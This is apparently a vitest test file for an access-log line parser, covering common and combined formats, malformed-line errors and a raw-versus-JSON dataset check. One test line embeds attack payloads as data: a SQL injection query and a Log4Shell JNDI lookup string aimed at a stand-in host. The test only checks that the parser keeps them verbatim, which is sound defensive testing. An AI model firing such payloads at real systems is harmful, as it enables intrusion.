import { gunzipSync } from 'node:zlib';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseAccessLogLine } from '../../../src/io/formats/access-log.js';
import { MAX_LINE_CHARS } from '../../../src/io/formats/line-result.js';
import { sharedPath } from '../../event/shared-corpus.js';

// Samples from the Apache mod_log_config documentation (common and combined formats).
const COMMON = '127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326';
const COMBINED = `${COMMON} "http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"`;

describe('parseAccessLogLine', () => {
  it('parses the common log format into webserver field names', () => {
    expect(parseAccessLogLine(COMMON)).toEqual({
      ok: true,
      record: {
        date: '10/Oct/2000:13:55:36 -0700',
        'c-ip': '127.0.0.1',
        'cs-username': 'frank',
        'cs-method': 'GET',
        'cs-uri-stem': '/apache_pb.gif',
        'cs-uri-query': '',
        'cs-version': 'HTTP/1.0',
        'c-uri': '/apache_pb.gif',
        'sc-status': 200,
        'sc-bytes': 2326,
      },
    });
  });

  it('adds referer and user agent for the combined format', () => {
    const result = parseAccessLogLine(COMBINED);
    expect(result).toMatchObject({
      ok: true,
      record: { 'cs-referer': 'http://www.example.com/start.html', 'cs-user-agent': 'Mozilla/4.08 [en] (Win98; I ;Nav)' },
    });
  });

  it('splits the query from the stem and keeps attack payloads verbatim', () => {
    const line = `10.0.0.9 - - [17/May/2015:10:05:03 +0000] "GET /index.php?id=1%27%20UNION%20SELECT%20* HTTP/1.1" 404 - "-" "\${jndi:ldap://x.example/a}"`;
    const result = parseAccessLogLine(line);
    expect(result).toMatchObject({
      ok: true,
      record: {
        'cs-uri-stem': '/index.php',
        'cs-uri-query': 'id=1%27%20UNION%20SELECT%20*',
        'sc-bytes': '-',
        'cs-user-agent': '${jndi:ldap://x.example/a}',
      },
    });
  });

  it('unescapes \\" inside quoted fields (nginx escapes quotes in the user agent)', () => {
    const line = `${COMMON} "-" "say \\"hi\\""`;
    expect(parseAccessLogLine(line)).toMatchObject({ ok: true, record: { 'cs-user-agent': 'say "hi"' } });
  });

  it('keeps a request line without a method whole (e.g. "-" for a dropped connection)', () => {
    const line = '10.0.0.1 - - [17/May/2015:10:05:03 +0000] "-" 408 -';
    expect(parseAccessLogLine(line)).toMatchObject({ ok: true, record: { 'c-uri': '-', 'sc-status': 408 } });
  });

  it('locates the column of a malformed line', () => {
    expect(parseAccessLogLine('127.0.0.1 - frank 10/Oct/2000 "GET / HTTP/1.0" 200 1')).toEqual({
      ok: false,
      column: 19,
      reason: 'expected [time]',
    });
    expect(parseAccessLogLine(`${COMMON.slice(0, 60)}`)).toMatchObject({ ok: false, column: 48 });
    expect(parseAccessLogLine('127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 20 1')).toMatchObject({
      ok: false,
      reason: 'expected a 3-digit status',
    });
    expect(parseAccessLogLine(`${COMMON} trailing`)).toMatchObject({ ok: false, column: COMMON.length + 2 });
  });

  it('rejects a truncated combined line, an empty line and an oversized line', () => {
    expect(parseAccessLogLine(`${COMMON} "http://www.example.com/start.html" "Mozilla`)).toMatchObject({ ok: false });
    expect(parseAccessLogLine('')).toEqual({ ok: false, column: 1, reason: 'empty line' });
    const long = `${COMMON.replace('/apache_pb.gif', `/${'a'.repeat(MAX_LINE_CHARS)}`)}`;
    expect(parseAccessLogLine(long)).toMatchObject({ ok: false, column: 1 });
  });

  // The Elastic examples ship the same Apache access log raw and as JSON: every raw line must
  // give exactly the JSON record of the same line (so both give the same alerts). One raw line
  // is cut off inside the user agent; its twin has empty referer and agent. That line is a
  // located bad record here, not a guessed record.
  const raw = sharedPath('datasets/elastic_examples_apache_access.log.gz', 'access-log twin comparison');
  const json = sharedPath('datasets/elastic_examples_apache_access.jsonl.gz', 'access-log twin comparison');
  it.skipIf(raw === undefined || json === undefined)('gives the JSON twin record for every line of the Elastic Apache log', () => {
    const lines = gunzipSync(readFileSync(raw!)).toString('utf8').split('\n').filter((l) => l.length > 0);
    const twins = gunzipSync(readFileSync(json!)).toString('utf8').split('\n').filter((l) => l.length > 0);
    expect(lines.length).toBe(twins.length);
    expect(lines.length).toBeGreaterThan(1000);
    const mismatches: string[] = [];
    const failures: string[] = [];
    for (let i = 0; i < lines.length; i++) {
      const result = parseAccessLogLine(lines[i]!);
      if (!result.ok) {
        failures.push(`${i + 1}:${result.column}: ${result.reason}`);
        continue;
      }
      const want = JSON.parse(twins[i]!) as unknown;
      if (JSON.stringify(sortKeys(result.record)) !== JSON.stringify(sortKeys(want as Record<string, unknown>))) {
        mismatches.push(`line ${i + 1}: ${JSON.stringify(result)} vs ${twins[i]}`);
      }
    }
    expect(mismatches.slice(0, 3)).toEqual([]);
    expect(failures).toEqual(['8899:111: expected "user agent"']);
  });
});

function sortKeys(record: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(Object.entries(record).sort(([a], [b]) => (a < b ? -1 : 1)));
}
